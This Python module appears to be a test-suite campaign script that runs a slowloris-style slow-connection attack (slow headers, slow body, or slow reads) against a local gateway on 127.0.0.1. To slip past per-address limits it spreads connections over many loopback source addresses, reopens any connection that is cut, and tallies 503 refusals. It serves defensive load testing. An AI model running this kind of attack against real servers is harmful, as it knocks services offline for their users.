"""A slow attacker as a program: holds as many connections as it can and hardly says or reads anything on them.

It comes from many addresses of 127.0.0.0/8, so that a limit by address alone does not end it. A connection that is cut
off is opened anew. ``python -m tests.campaigns.slow_attack --port 8066 --kind headers``
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import socket
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import asdict, dataclass
from enum import StrEnum
from typing import Final

import orjson

_TRICKLE_SECONDS: Final = 2.0
_REOPEN_SECONDS: Final = 0.2
_PER_SECOND: Final = 200
"""New connections at the beginning; the usual pace of tools for this attack."""
_PER_ADDRESS: Final = 20


class Kind(StrEnum):
    """What is slow."""

    HEADERS = "headers"
    BODY = "body"
    READ = "read"


@dataclass(slots=True)
class Tally:
    """What the attacker got."""

    opened: int = 0
    held: int = 0
    most_held: int = 0
    cut_off: int = 0
    refused: int = 0


_BEGINNINGS: Final = {
    Kind.HEADERS: b"POST /v1/treated-cases HTTP/1.1\r\nHost: 127.0.0.1\r\n",
    Kind.BODY: (
        b"POST /v1/treated-cases HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Idempotency-Key: slow\r\nContent-Length: 8192\r\n\r\n"
    ),
    Kind.READ: b"GET /static/swagger-ui-bundle.js HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 4,
}
_TRICKLE: Final = {Kind.HEADERS: b"X-A: b\r\n", Kind.BODY: b" ", Kind.READ: b""}


async def attack(port: int, kind: Kind, connections: int, seconds: float) -> Tally:
    """Hold so many connections for so long."""
    tally = Tally()

    async def one(number: int) -> None:
        await asyncio.sleep(number / _PER_SECOND)
        while True:
            with contextlib.suppress(OSError):
                await _hold(port, kind, number, tally)
            await asyncio.sleep(_REOPEN_SECONDS)

    tasks = [asyncio.create_task(one(number)) for number in range(connections)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return tally


async def _hold(port: int, kind: Kind, number: int, tally: Tally) -> None:
    loop = asyncio.get_running_loop()
    async with _connection(port, number) as raw:
        tally.opened += 1
        await loop.sock_sendall(raw, _BEGINNINGS[kind])
        tally.held += 1
        tally.most_held = max(tally.most_held, tally.held)
        try:
            while not await _ended(raw, kind, tally):
                await loop.sock_sendall(raw, _TRICKLE[kind])
        except OSError:
            tally.cut_off += 1
        finally:
            tally.held -= 1


@asynccontextmanager
async def _connection(port: int, number: int) -> AsyncIterator[socket.socket]:
    raw = socket.socket()
    try:
        raw.setblocking(False)  # noqa: FBT003 - the signature is the socket's
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        group = number // _PER_ADDRESS
        raw.bind((f"127.1.{group // 250}.{group % 250 + 1}", 0))
        await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", port))
        yield raw
    finally:
        raw.close()


async def _ended(raw: socket.socket, kind: Kind, tally: Tally) -> bool:
    """Wait for the next trickle; whether the gateway has had enough meanwhile. What it sends is read but for READ."""
    if kind is Kind.READ:
        await asyncio.sleep(_TRICKLE_SECONDS)
        return raw.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1  # TCP_ESTABLISHED
    try:
        async with asyncio.timeout(_TRICKLE_SECONDS):
            said = await asyncio.get_running_loop().sock_recv(raw, 4096)
    except TimeoutError:
        return False
    tally.refused += b" 503 " in said[:20]
    tally.cut_off += not said
    return not said


def main() -> None:
    """Attack, and print the tally as one JSON line."""
    parser = argparse.ArgumentParser(prog="python -m tests.campaigns.slow_attack", description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--kind", type=Kind, choices=list(Kind), required=True)
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=30)
    given = parser.parse_args()
    _raise_limit()
    tally = asyncio.run(attack(given.port, given.kind, given.connections, given.seconds))
    sys.stdout.write(orjson.dumps(asdict(tally)).decode() + "\n")


def _raise_limit() -> None:
    import resource  # noqa: PLC0415 - not on every platform

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


if __name__ == "__main__":
    main()
